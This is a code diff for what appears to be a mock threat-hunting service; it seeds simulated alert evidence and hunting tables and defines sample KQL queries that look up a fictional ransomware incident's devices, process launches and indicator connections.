+					Categories: JSON.stringify([category]),
+					AttackTechniques: JSON.stringify(techniques),
+					ServiceSource: SERVICE_SOURCE_NAMES[serviceSource],
+					DetectionSource: DETECTION_SOURCE_NAMES[detectionSource],
+					EntityType: ENTITY_TYPES[kind],
+					EvidenceRole: kind === 'device' || kind === 'user' ? 'Impacted' : 'Related',
+					FileName: file?.name,
+					FolderPath: file ? `${file.folderPath}\\${file.name}` : undefined,
+					SHA1: file?.sha1,
+					SHA256: file?.sha256,
+					FileSize: file?.size,
+					RemoteIP: kind === 'ip' ? key : undefined,
+					RemoteUrl: kind === 'url' ? key : undefined,
+					AccountName: user?.accountName,
+					AccountDomain: user ? 'contoso' : undefined,
+					AccountSid: user?.sid,
+					AccountObjectId: user?.objectId,
+					AccountUpn: user?.upn,
+					DeviceId: device?.deviceId,
+					DeviceName: device ? `${device.name.toLowerCase()}.${DOMAIN}` : undefined,
+					LocalIP: device?.ipAddress,
+					NetworkMessageId: kind === 'mail' ? MAILS[key].networkMessageId : undefined,
+					EmailSubject: kind === 'mail' ? key : undefined,
+				};
+			}),
+	);
 	/** @type {Record<string, Record<string, unknown>[]>} */
-	const tables = { DeviceInfo: deviceInfo, DeviceProcessEvents: processes, DeviceNetworkEvents: connections, AlertInfo: alertInfo, AlertEvidence: alertEvidence };
-	return Object.fromEntries(Object.entries(tables).map(([table, rows]) => [table, rows.map((row) => completeHuntingRow(table, row))]));
+	const tables = {
+		DeviceInfo: deviceInfo,
+		DeviceProcessEvents: processes,
+		DeviceNetworkEvents: connections,
+		AlertInfo: alertInfo,
+		AlertEvidence: alertEvidence,
+	};
+	return Object.fromEntries(
+		Object.entries(tables).map(([table, rows]) => [
+			table,
+			rows.map((row) => completeHuntingRow(table, row)),
+		]),
+	);
 }
 
 /**
@@ -775,13 +1826,21 @@ function buildHuntingRows() {
  * @param {Record<string, unknown>} row
  */
 function completeHuntingRow(table, row) {
-	return Object.fromEntries(HUNTING_COLUMNS[table].map(([name, type]) => [name, row[name] ?? (type === 'String' ? '' : null)]));
+	return Object.fromEntries(
+		HUNTING_COLUMNS[table].map(([name, type]) => [
+			name,
+			row[name] ?? (type === 'String' ? '' : null),
+		]),
+	);
 }
 
 /** @type {Readonly<Record<string, { schema: ReadonlyArray<{ name: string, type: string }>, rows: ReadonlyArray<Record<string, unknown>> }>>} */
 const SEED_HUNTING_TABLES = deepFreeze(
 	Object.fromEntries(
-		Object.entries(buildHuntingRows()).map(([table, rows]) => [table, { schema: HUNTING_COLUMNS[table].map(([name, type]) => ({ name, type })), rows }]),
+		Object.entries(buildHuntingRows()).map(([table, rows]) => [
+			table,
+			{ schema: HUNTING_COLUMNS[table].map(([name, type]) => ({ name, type })), rows },
+		]),
 	),
 );
 
@@ -809,11 +1868,14 @@ const SEEDED_ALERT_IDS = deepFreeze({
 /** Queries of the supported KQL subset that return rows from the seed; the README gives their row counts. */
 const SEEDED_HUNTING_QUERIES = deepFreeze({
 	/** the three Finance workstations of incident 1001 (3 rows) */
-	devicesOfIncident: 'DeviceInfo | where DeviceName startswith "ws-fin-" | project DeviceId, DeviceName, OSPlatform, MachineGroup',
+	devicesOfIncident:
+		'DeviceInfo | where DeviceName startswith "ws-fin-" | project DeviceId, DeviceName, OSPlatform, MachineGroup',
 	/** the ransomware payload's launches (3 rows, newest first) */
-	ransomwareProcesses: 'DeviceProcessEvents | where FileName == "svcupdate.exe" | project Timestamp, DeviceName, AccountName, ProcessCommandLine | order by Timestamp desc',
+	ransomwareProcesses:
+		'DeviceProcessEvents | where FileName == "svcupdate.exe" | project Timestamp, DeviceName, AccountName, ProcessCommandLine | order by Timestamp desc',
 	/** connections to the indicator of incident 1002 (2 rows) */
-	indicatorConnections: 'DeviceNetworkEvents | where RemoteUrl == "cdn-update-check.net" | project Timestamp, DeviceName, RemoteIP, InitiatingProcessFileName',
+	indicatorConnections:
+		'DeviceNetworkEvents | where RemoteUrl == "cdn-update-check.net" | project Timestamp, DeviceName, RemoteIP, InitiatingProcessFileName',
 });
 
 /**
